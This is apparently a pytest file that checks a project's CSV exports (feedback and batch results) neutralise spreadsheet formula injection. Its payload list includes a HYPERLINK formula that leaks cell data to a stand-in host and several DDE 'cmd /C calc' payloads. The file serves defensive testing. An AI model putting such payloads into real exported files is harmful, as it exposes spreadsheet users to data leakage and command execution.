"""Finding 4: CSV formula injection. Every CSV the project writes (the feedback export of the admin tab, the
results of the queue tab) neutralises cells a spreadsheet program would execute."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

from netral.records import Answer
from netral.spreadsheet import safe_cell
from ui.exports import write_batch
from ui.feedback import FeedbackStore

FORMULAS = ['=HYPERLINK("http://contoh.invalid/?"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_exports_neutralise_formulas(tmp_path: Path, store_at: Callable[[Path], Path | str]) -> None:
    assert [safe_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert safe_cell("Apakah PNS boleh?") == "Apakah PNS boleh?" and safe_cell(-1) == -1
    store = FeedbackStore(store_at(tmp_path / "f.sqlite"))
    for f in FORMULAS:
        store.add(Answer(question=f, answer=f, verdict="informasi", backend=f), -1, comment=f, mode=f)
    exported = store.export_csv(tmp_path / "masukan.csv")
    store.close()
    with exported.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    cells = [c for row in rows for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert sum(c == "'" + FORMULAS[0] for c in cells) == 5  # comment, question, answer, backend, mode
    rows_in = [(f, Answer(question=f, answer=f, verdict="informasi"), f) for f in FORMULAS]
    csv_path, _jsonl = write_batch(rows_in, tmp_path / "batch", "hasil")
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in list(csv.reader(fh))[1:] for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert "'" + FORMULAS[1] in cells
